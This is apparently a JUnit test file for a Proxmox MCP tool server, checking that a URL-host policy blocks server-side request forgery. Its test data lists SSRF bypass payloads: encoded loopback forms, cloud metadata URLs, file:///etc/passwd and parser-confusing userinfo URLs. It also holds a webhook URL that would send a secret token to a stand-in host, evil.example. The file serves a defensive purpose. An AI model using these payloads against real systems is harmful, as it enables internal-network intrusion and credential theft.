package pvemcp.dispatch;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import pvemcp.json.Json;
import pvemcp.lab.Lab;
import pvemcp.lab.LabAssert;
import pvemcp.sim.scenario.Scenarios;
import pvemcp.tool.ToolResult;

/// Where a call may send the nodes by a URL.
class UrlHostsTest {
    /// Whose owner has listed nothing.
    private static Lab unlisted;

    @BeforeAll
    static void begin() {
        unlisted = lab();
    }

    @AfterAll
    static void end() {
        unlisted.close();
    }

    private static LabAssert that(ToolResult result) {
        return LabAssert.assertThat(result);
    }

    private static Lab lab(String... listed) {
        return Lab.of(Scenarios.homelab())
                .owner("""
                [policy]
                operate = "allow"
                change = "allow"
                destroy = "allow"
                execute = "allow"
                url_hosts = %s
                """.formatted(Json.strings(List.of(listed)).write()));
    }

    private static ToolResult download(Lab lab, String url) {
        return lab.call(
                "pve_storage_download",
                "node",
                "pve1",
                "storage",
                "local",
                "content",
                "iso",
                "filename",
                "x.iso",
                "url",
                url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://127.0.0.1/x.iso",
                "http://localhost:8080/x.iso",
                "http://10.0.0.5/x.iso",
                "http://192.168.1.5/x.iso",
                "http://172.16.3.4/x.iso",
                "http://100.64.0.1/x.iso",
                "http://169.254.169.254/latest/meta-data",
                "http://0.0.0.0/x.iso",
                "http://[::1]/x.iso",
                "http://[fd00::1]/x.iso",
                "http://[fe80::1]/x.iso",
                "http://[::ffff:10.0.0.5]/x.iso",
                "http://[::ffff:7f00:1]/x.iso",
                "http://[::127.0.0.1]/x.iso",
                "http://[64:ff9b::a00:5]/x.iso",
                "http://[64:ff9b:1::a00:5]/x.iso",
                "http://[2002:a00:5::]/x.iso",
                "http://[2001:0:a00:5::]/x.iso",
                "http://[fec0::1]/x.iso",
                "http://[ff02::1]/x.iso",
                "http://[fe80::1%25eth0]/x.iso",
                "http://0.1.2.3/x.iso",
                "http://192.0.0.8/x.iso",
                "http://198.18.0.1/x.iso",
                "http://240.0.0.1/x.iso",
                "http://255.255.255.255/x.iso",
                // Names of the node's own network.
                "http://nas/x.iso",
                "http://ip6-localhost/x.iso",
                "http://localhost./x.iso",
                "http://localhost.localdomain/x.iso",
                "http://nas.local/x.iso",
                "http://router.lan/x.iso",
                "http://metadata.google.internal/x.iso",
                "http://nas.home.arpa/x.iso",
                // The same addresses as inet_aton(3) reads them.
                "http://2130706433/x.iso",
                "http://0x7f000001/x.iso",
                "http://127.1/x.iso",
                "http://0177.0.0.1/x.iso",
                "http://%31%32%37.0.0.1/x.iso",
                "http://１２７.0.0.1/x.iso",
                "http://127。0。0。1/x.iso",
                "http:\\\\127.0.0.1/x.iso",
                "http:/127.0.0.1/x.iso",
                "HTTP://127.0.0.1",
                "file:///etc/passwd",
                "ftp://example.org/x.iso",
                // Two readers might see two hosts in these.
                "http://example.org@10.0.0.5/x.iso",
                "http://user:word@example.org/x.iso",
                "https://example.org:443@127.0.0.1/x.iso",
                "https://example.org\\\\@127.0.0.1/x.iso",
                "http://ex ample.org/x.iso"
            })
    void what_is_no_public_host_is_refused_unless_it_is_listed(String url) {
        that(download(unlisted, url)).isRefusedBy("policy.url_hosts");
        assertThat(unlisted.audit().toString()).doesNotContain("\"sent\"");
    }

    @Test
    void what_pve_fills_into_a_webhook_stands_behind_its_host() {
        try (var lab = lab("hooks.example.org")) {
            for (var url : List.of(
                    "https://hooks.example.org/api/{{ secrets.TOKEN }}/send?at={{ timestamp }}",
                    "https://{{ secrets.HOST }}/x",
                    "https://hooks.example.org{{ secrets.MORE }}/x",
                    "https://evil.example/{{ secrets.TOKEN }}")) {
                var params = Json.obj("name", "hook", "method", "post", "url", url);
                var answer = lab.call(
                        "pve_api_write",
                        "method",
                        "post",
                        "path",
                        "/cluster/notifications/endpoints/webhook",
                        "params",
                        params);
                if (url.contains(".org/")) {
                    that(answer).isDone();
                } else {
                    that(answer).isRefusedBy("policy.url_hosts");
                }
            }
        }
    }

    @Test
    void names_and_public_addresses_are_open_as_long_as_nothing_is_listed() {
        try (var lab = lab()) {
            that(download(lab, "https://example.org/x.iso")).isDone();
        }
    }

    @Test
    void a_list_is_all_there_is() {
        try (var lab = lab("example.org", "*.example.com", "10.0.0.5:8080")) {
            that(download(lab, "https://example.net/x.iso"))
                    .isRefusedBy("policy.url_hosts")
                    .hinting("add example.net to policy.url_hosts");
            that(download(lab, "https://example.org.example.net/x.iso")).isRefusedBy("policy.url_hosts");
            that(download(lab, "https://evil-example.com/x.iso")).isRefusedBy("policy.url_hosts");
            that(download(lab, "http://10.0.0.5/x.iso")).isRefusedBy("policy.url_hosts");
            that(download(lab, "https://mirror.example.com/x.iso")).isDone();
            // These are let through, and then nobody answers there.
            that(download(lab, "https://EXAMPLE.org./x.iso")).failsWith("task_failed");
            that(download(lab, "http://10.0.0.5:8080/x.iso")).failsWith("task_failed");
        }
    }

    @Test
    void a_star_beside_an_address_keeps_the_rest_open() {
        try (var lab = lab("*", "192.168.1.5")) {
            that(download(lab, "http://192.168.1.5/x.iso")).failsWith("task_failed");
            that(download(lab, "http://192.168.1.6/x.iso")).isRefusedBy("policy.url_hosts");
            that(download(lab, "https://example.org/x.iso")).isDone();
        }
    }

    @Test
    void any_call_that_takes_a_url_is_judged_as_well() {
        try (var lab = lab()) {
            that(write(lab, "GET", "/nodes/pve1/query-url-metadata", Json.obj("url", "http://169.254.169.254/")))
                    .isRefusedBy("policy.url_hosts");
            that(write(lab, "GET", "/cluster/acme/meta", Json.obj("directory", "https://10.0.0.1/dir")))
                    .isRefusedBy("policy.url_hosts");
            that(write(
                            lab,
                            "POST",
                            "/cluster/notifications/endpoints/webhook",
                            Json.obj("name", "w", "method", "post", "url", "http://10.0.0.1/")))
                    .isRefusedBy("policy.url_hosts");
            that(write(
                            lab,
                            "POST",
                            "/cluster/notifications/endpoints/gotify",
                            Json.obj("name", "g", "server", "http://localhost:80", "token", "t")))
                    .isRefusedBy("policy.url_hosts");
            that(write(lab, "PUT", "/cluster/options", Json.obj("http_proxy", "http://10.0.0.1:3128")))
                    .isRefusedBy("policy.url_hosts");
            that(write(
                            lab,
                            "POST",
                            "/nodes/pve1/storage/local/oci-registry-pull",
                            Json.obj("reference", "10.0.0.1:5000/library/alpine:3")))
                    .isRefusedBy("policy.url_hosts");
        }
    }

    @Test
    void an_image_without_a_registry_comes_from_the_usual_one() {
        try (var lab = lab("ghcr.io")) {
            that(write(
                            lab,
                            "POST",
                            "/nodes/pve1/storage/local/oci-registry-pull",
                            Json.obj("reference", "library/alpine:3")))
                    .isRefusedBy("policy.url_hosts")
                    .hinting("docker.io");
        }
    }

    @Test
    void a_dry_run_says_so_too() {
        try (var lab = lab()) {
            that(lab.call(
                            "pve_api_write",
                            "method",
                            "post",
                            "path",
                            "/nodes/pve1/storage/local/download-url",
                            "params",
                            Json.obj("url", "http://10.0.0.5/x.iso", "content", "iso", "filename", "x.iso"),
                            "dry_run",
                            true))
                    .isRefusedBy("policy.url_hosts");
        }
    }

    private static ToolResult write(Lab lab, String method, String path, Json.Obj params) {
        return lab.call("pve_api_write", "method", method, "path", path, "params", params);
    }
}
